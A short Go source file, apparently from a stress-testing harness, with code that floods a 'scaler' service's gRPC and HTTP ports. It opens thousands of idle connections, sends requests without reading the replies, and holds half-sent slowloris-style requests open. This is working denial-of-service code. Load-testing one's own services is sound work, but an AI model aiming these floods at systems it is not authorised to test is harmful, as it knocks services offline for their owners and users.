package attack

import (
	"context"
	"io"
	"net"
	"time"
)

func silentConnections(ctx context.Context, t Target) {
	each(ctx, 5000, func(ctx context.Context, _ int) { hold(ctx, t, t.GRPC, "") })
}

func readersThatDoNotRead(ctx context.Context, t Target) {
	each(ctx, 3000, func(ctx context.Context, _ int) {
		hold(ctx, t, t.HTTP, "GET /metrics HTTP/1.1\r\nHost: scaler\r\n\r\n")
	})
}

func unfinishedRequests(ctx context.Context, t Target) {
	each(ctx, 3000, func(ctx context.Context, _ int) { hold(ctx, t, t.HTTP, "GET /metrics HTTP/1.1\r\nHost: sca") })
}

// hold sends a text and waits until the other side, or the attack, ends. It
// reads no answer.
func hold(ctx context.Context, t Target, address, text string) {
	conn, err := t.Dial(ctx, address)
	if err != nil {
		pause(ctx, time.Second)
		return
	}
	defer conn.Close()
	if tcp, ok := conn.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10)
	}
	_, _ = io.WriteString(conn, text)
	pause(ctx, 2*time.Second)
}
